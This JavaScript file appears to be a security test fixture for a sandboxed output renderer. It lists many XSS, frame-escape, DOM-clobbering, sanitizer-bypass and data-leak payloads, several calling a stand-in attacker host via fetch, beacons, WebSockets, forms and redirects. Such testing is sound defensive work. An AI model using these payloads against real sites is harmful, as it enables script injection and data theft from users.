// What untrusted output tries in order to reach the page or the network. `to(name)` is an address of the attacker, one host each.
// Every script also writes to whatever it can reach (`mark`), for the page to look at.
const mark = `for (const reach of [() => parent.bad = 1, () => top.bad = 1, () => parent.document.title = "bad", () => parent.localStorage.bad = 1,
  () => localStorage.bad = 1, () => sessionStorage.bad = 1, () => document.cookie = "bad=1", () => top.location.hash = "bad", () => frameElement.remove(),
  () => indexedDB.open("bad"), () => caches.open("bad"), () => new BroadcastChannel("stoa").postMessage("bad")]) try { reach(); } catch {}`;
const script = (code) => `<script>${mark}\ntry { ${code} } catch {}</script>`;
const later = (code) => script(`setTimeout(() => { try { ${code} } catch {} }, 5);`);
const append = (tag, fields) => script(`document.body.append(Object.assign(document.createElement(${JSON.stringify(tag)}), ${JSON.stringify(fields)}));`);

export function htmlPayloads(to) {
  const s = (name) => JSON.stringify(to(name));
  return {
    // Loading
    img: `<img src="${to("img")}">`, srcset: `<img srcset="${to("srcset")} 1x">`, picture: `<picture><source srcset="${to("picture")}"><img></picture>`,
    imgByScript: script(`new Image().src = ${s("imgbyscript")} + "?" + encodeURIComponent(document.referrer)`),
    cssUrl: `<style>body { background: url("${to("cssurl")}") }</style>`, cssImport: `<style>@import url("${to("cssimport")}");</style>`,
    cssFont: `<style>@font-face { font-family: bad; src: url("${to("cssfont")}") } body { font-family: bad }</style>bad`,
    cssSet: `<div style='background-image: image-set(url("${to("cssset")}") 1x); cursor: url("${to("csscursor")}"), auto; mask: url("${to("cssmask")}#m"); width: 9px'>x</div>`,
    cssContent: `<style>p::before { content: url("${to("csscontent")}") }</style><p>x</p>`, styleSheet: `<link rel="stylesheet" href="${to("stylesheet")}">`,
    poster: `<video poster="${to("poster")}" controls></video>`, video: `<video src="${to("video")}" autoplay muted></video>`, audio: `<audio src="${to("audio")}" autoplay></audio>`,
    track: `<video controls><track default kind="captions" src="${to("track")}"></video>`, object: `<object data="${to("object")}"></object>`, embed: `<embed src="${to("embed")}">`,
    inputImage: `<input type="image" src="${to("inputimage")}">`, bodyBackground: `<table background="${to("tablebackground")}"><tr><td>x</td></tr></table>`,
    svgImage: `<svg><image href="${to("svgimage")}" width="9" height="9"/></svg>`, svgUse: `<svg><use href="${to("svguse")}#a"/></svg>`,
    svgFilter: `<svg><filter id="f"><feImage href="${to("svgfilter")}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    icon: `<link rel="icon" href="${to("icon")}">`, manifest: `<link rel="manifest" href="${to("manifest")}">`,
    // Hints
    preload: `<link rel="preload" as="image" href="${to("preload")}">`, modulePreload: `<link rel="modulepreload" href="${to("modulepreload")}">`,
    prefetch: `<link rel="prefetch" href="${to("prefetch")}">`, prerender: `<link rel="prerender" href="${to("prerender")}">`,
    preconnect: `<link rel="preconnect" href="${to("preconnect")}">`, dnsPrefetch: `<link rel="dns-prefetch" href="${to("dnsprefetch")}">`,
    dnsByAnchor: `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="${to("dnsbyanchor")}">x</a>`,
    hintsByScript: ["preconnect", "dns-prefetch", "prefetch"].map((rel) => append("link", { rel, href: to(`script${rel.replace("-", "")}`) })).join(""),
    speculation: script(`const rules = document.createElement("script"); rules.type = "speculationrules"; rules.textContent = JSON.stringify({
      prefetch: [{ source: "list", eagerness: "immediate", urls: [${s("specprefetch")}] }], prerender: [{ source: "list", eagerness: "immediate", urls: [${s("specprerender")}] }] });
      document.head.append(rules)`),
    // Requests by script
    fetch: script(`fetch(${s("fetch")}, { mode: "no-cors" }).catch(() => 0)`), fetchLater: script(`fetchLater(${s("fetchlater")}, { activateAfter: 0 })`),
    keepalive: script(`fetch(${s("keepalive")}, { method: "POST", keepalive: true, mode: "no-cors", body: "x" }).catch(() => 0)`),
    xhr: script(`const ask = new XMLHttpRequest(); ask.open("GET", ${s("xhr")}); ask.send()`), beacon: script(`navigator.sendBeacon(${s("beacon")}, "x")`),
    webSocket: script(`new WebSocket(${s("websocket")}.replace("http", "ws"))`), eventSource: script(`new EventSource(${s("eventsource")})`),
    webTransport: script(`new WebTransport(${s("webtransport")}.replace("http", "https"))`),
    scriptSource: `<script src="${to("scriptsource")}"></script>`, moduleImport: script(`import(${s("moduleimport")}).catch(() => 0)`),
    importMap: `<script type="importmap">{ "imports": { "bad": "${to("importmap")}" } }</script>${script(`import("bad").catch(() => 0)`)}`,
    worker: script(`new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(${s("worker")}) + ", { mode: 'no-cors' })"])))`),
    workerFar: script(`new Worker(${s("workerfar")})`), sharedWorker: script(`new SharedWorker("data:text/javascript,fetch(%22${encodeURIComponent(to("sharedworker"))}%22)")`),
    serviceWorker: script(`navigator.serviceWorker.register("/frame/output.js").catch(() => 0)`),
    worklet: script(`CSS.paintWorklet ? CSS.paintWorklet.addModule(${s("worklet")}) : new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(${s("worklet")}).catch(() => 0)`),
    peer: script(`const port = new URL(${s("peer")}).port; const peer = new (window.RTCPeerConnection || window.webkitRTCPeerConnection)({ iceServers: [{ urls: "stun:127.0.0.1:" + port }, { urls: "stun:stun.leak.example:" + port }] });
      peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`),
    payment: script(`new PaymentRequest([{ supportedMethods: ${s("payment")} }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment().catch(() => 0)`),
    attribution: `<img attributionsrc="${to("attribution")}" src="data:,">`, cspReport: `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${to("cspreport")}"><img src="data:,">`,
    interestGroup: script(`navigator.joinAdInterestGroup({ owner: ${s("interest")}, name: "x", biddingLogicURL: ${s("interest")} }, 60).catch(() => 0)`),
    credential: script(`navigator.credentials.get({ identity: { providers: [{ configURL: ${s("credential")}, clientId: "x" }] } }).catch(() => 0)`),
    // Navigation
    location: later(`location = ${s("location")}`), locationReplace: later(`location.replace(${s("replace")})`), metaRefresh: `<meta http-equiv="refresh" content="0; url=${to("metarefresh")}">`,
    topLocation: script(`top.location = ${s("toplocation")}`), parentLocation: script(`parent.location.href = ${s("parentlocation")}`),
    siblings: script(`for (let at = 0; at < parent.length; at++) { try { parent[at].location = ${s("sibling")} } catch {} parent[at].postMessage({ stoa: "", kind: "render", content: { mime: "text/html", data: "bad" } }, "*") }`),
    open: script(`open(${s("open")})`), openSelf: script(`open(${s("openself")}, "_self")`), openTop: script(`open(${s("opentop")}, "_top")`),
    clickedLink: `<a id="l" target="_blank" href="${to("clickedlink")}" ping="${to("ping")}">x</a>${script(`document.getElementById("l").click()`)}`,
    clickedTop: `<a id="l" target="_top" href="${to("clickedtop")}">x</a>${script(`document.getElementById("l").click()`)}`,
    clickedDownload: `<a id="l" download href="${to("clickeddownload")}">x</a>${script(`document.getElementById("l").click()`)}`,
    scriptLink: `<a id="l" href="javascript:parent.bad=1">x</a>${script(`document.getElementById("l").click()`)}`,
    areaLink: `<map name="m"><area id="l" target="_parent" shape="default" href="${to("area")}"></map>${script(`document.getElementById("l").click()`)}`,
    form: `<form id="f" action="${to("form")}" method="post"><input name="a" value="b"></form>${script(`document.getElementById("f").submit()`)}`,
    formTop: `<form id="f" target="_top" action="${to("formtop")}"><button id="b" formaction="${to("formaction")}">x</button></form>${script(`document.getElementById("b").click()`)}`,
    base: `<base href="${to("base")}" target="_top"><img src="a.png"><a id="l" href="b">x</a>${script(`document.getElementById("l").click()`)}`,
    // Frames in the frame
    iframe: `<iframe src="${to("iframe")}"></iframe>`, frameSet: `<frameset><frame src="${to("frameset")}"></frameset>`,
    srcdoc: `<iframe srcdoc="&lt;img src=${to("srcdoc")}&gt;&lt;script&gt;try { top.bad = 1 } catch {} fetch('${to("srcdocfetch")}', { mode: 'no-cors' }).catch(() => 0)&lt;/script&gt;"></iframe>`,
    dataFrame: `<iframe src="data:text/html,<img src='${to("dataframe")}'><script>top.bad=1</script>"></iframe>`, scriptFrame: `<iframe src="javascript:top.bad=1"></iframe>`,
    unsandboxed: `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" src="/"></iframe>`, ownPage: `<iframe src="/frame/output.html#x.light"></iframe>`,
    blobFrame: script(`document.body.append(Object.assign(document.createElement("iframe"), { src: URL.createObjectURL(new Blob(["<img src=" + ${s("blobframe")} + ">"], { type: "text/html" })) }))`),
    fenced: append("fencedframe", {}) + script(`document.querySelector("fencedframe").config = new FencedFrameConfig(${s("fenced")})`),
    // Talking to the page
    messages: script(`for (const kind of ["ready", "height", "link", "error", "custom", "render", "__proto__"]) parent.postMessage({ stoa: location.hash.slice(1).split(".")[0], kind, pixels: 1e9, address: ${s("message")},
      sentence: "<img src=x onerror=parent.bad=1>", body: { __proto__: { bad: 1 } } }, "*"); parent.postMessage(null, "*"); parent.postMessage("x", "*")`),
    linkWithoutGesture: script(`parent.postMessage({ stoa: location.hash.slice(1).split(".")[0], kind: "link", address: ${s("linkmessage")} }, "*")`),
    scriptAddress: script(`parent.postMessage({ stoa: location.hash.slice(1).split(".")[0], kind: "link", address: "javascript:window.bad=1" }, "*")`),
    dialogs: script(`alert("bad"); confirm("bad"); prompt("bad"); print()`), storageAccess: script(`document.requestStorageAccess().catch(() => 0)`),
    ownServer: script(`fetch("/api/me").then(() => parent.postMessage("x", "*"), () => 0)`) + `<script src="/api/me"></script><img src="/api/me">`,
    clobber: `<form name="document"><input name="cookie"></form><img name="stoa"><a id="bad"></a><a id="bad" name="x"></a>`,
  };
}

/** Forms that the page itself shows. None of it may become markup that runs or loads. */
export function pagePayloads(to) {
  const html = (name) => `<img src="${to(name)}" onerror="window.bad=1"><script>window.bad=1</script><svg onload="window.bad=1"><iframe src="${to(name)}"></iframe>`;
  const svg = (name, inside) => ({ "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="parent.bad=1">${inside}</svg>` });
  return {
    svgScript: svg("s", `<script>top.bad=1; fetch("${to("svgfetch")}")</script>`), svgLoads: svg("s", `<image href="${to("svgloads")}"/><style>@import "${to("svgcss")}";</style>`),
    svgForeign: svg("s", `<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${to("svgforeign")}"/></foreignObject>`), svgSet: svg("s", `<a xlink:href="javascript:top.bad=1"><text>x</text></a><use href="${to("svgusefar")}#x"/>`),
    svgEntity: { "image/svg+xml": `<?xml version="1.0"?><?xml-stylesheet href="${to("svgsheet")}"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${to("svgentity")}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>` },
    markdownHtml: { "text/markdown": html("mdhtml") }, markdownImage: { "text/markdown": `![x](${to("mdimage")}) ![x](javascript:window.bad=1)\n\n[x](javascript:window.bad=1) <${to("mdauto")}>` },
    markdownStyle: { "text/markdown": `<div style="background:url(${to("mdstyle")})">x</div><style>@import "${to("mdimport")}"</style><link rel="stylesheet" href="${to("mdlink")}"><link rel="preconnect" href="${to("mdpreconnect")}">` },
    markdownForm: { "text/markdown": `<form action="${to("mdform")}"><button>x</button></form><base href="${to("mdbase")}"><meta http-equiv="refresh" content="0;url=${to("mdrefresh")}"><video poster="${to("mdposter")}" src="${to("mdvideo")}"></video>` },
    markdownMutation: { "text/markdown": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.bad=1&gt;">` },
    markdownNoscript: { "text/markdown": `<noscript><p title="</noscript><img src=x onerror=window.bad=1>">` }, markdownTemplate: { "text/markdown": `<template><img src=x onerror=window.bad=1></template><svg><style><img src=x onerror=window.bad=1></style></svg>` },
    markdownCode: { "text/markdown": `\`\`\`"><img src=x onerror=window.bad=1>\n<script>window.bad=1</script>\n\`\`\`` },
    markdownClobber: { "text/markdown": `<img name="cookie"><form id="app"><input name="attributes"></form><a id="app" href="javascript:window.bad=1">x</a>` },
    markdownMath: { "text/markdown": `$\\href{javascript:window.bad=1}{x}$ $\\includegraphics{${to("mdgraphics")}}$ $\\htmlData{x=1}{y}$ $<img src=x onerror=window.bad=1>$` },
    latex: { "text/latex": `$\\url{javascript:window.bad=1}$ $\\includegraphics{${to("latexgraphics")}}$ <img src="${to("latex")}" onerror="window.bad=1">` },
    latexBomb: { "text/latex": `$\\def\\a{\\a\\a}\\a$` }, json: { "application/json": { [html("jsonkey")]: html("jsonvalue"), __proto__: { bad: 1 }, constructor: { prototype: { bad: 1 } } } },
    text: { "text/plain": html("text") + `\u001b]8;;javascript:window.bad=1\u0007x\u001b]8;;\u0007 \u001b[38;2;0;0;url(${to("ansi")})mx` },
    badPng: { "image/png": `" onerror="window.bad=1` }, badMime: { [`image/<img src=x onerror=window.bad=1>`]: "x" }, badAudio: { "audio/<script>": "x" },
    table: { "text/html": `<table border="1" class="dataframe"><thead><tr><th></th><th>&lt;img src=x onerror=window.bad=1&gt;</th></tr></thead><tbody><tr><th>0</th><td>&lt;script&gt;window.bad=1&lt;/script&gt;</td></tr></tbody></table>` },
    tableMarkup: { "text/html": `<table border="1" class="dataframe"><thead><tr><th>a</th></tr></thead><tbody><tr><td>${html("table")}</td></tr></tbody></table>` },
    vegaUrl: { "application/vnd.vegalite.v5+json": { data: { url: to("vegadata") }, mark: { type: "image", url: to("vegaimage") }, usermeta: { embedOptions: { loader: { baseURL: to("vegaloader") } } } } },
    vegaExpression: { "application/vnd.vega.v5+json": { signals: [{ name: "a", update: `event.constructor.constructor("top.bad=1")()` }], marks: [{ type: "image", encode: { enter: { url: { value: to("vegamark") }, href: { value: "javascript:top.bad=1" } } } }] } },
    plotly: { "application/vnd.plotly.v1+json": { data: [{ type: "scatter", x: [1], y: [1], text: `<a href="javascript:top.bad=1">x</a>` }], layout: { images: [{ source: to("plotlyimage"), x: 0, y: 0, sizex: 1, sizey: 1 }], title: { text: `<img src=x onerror=top.bad=1>` } }, config: { topojsonURL: to("plotlytopo") } } },
    javascript: { "application/javascript": `${mark}; new Image().src = ${JSON.stringify(to("javascript"))}; await fetch(${JSON.stringify(to("javascriptfetch"))})` },
    unknown: { "application/vnd.unknown+json": { html: html("unknown") } }, updateKey: { "text/html": `<p>x</p>`, "text/plain": html("plainbeside") },
  };
}
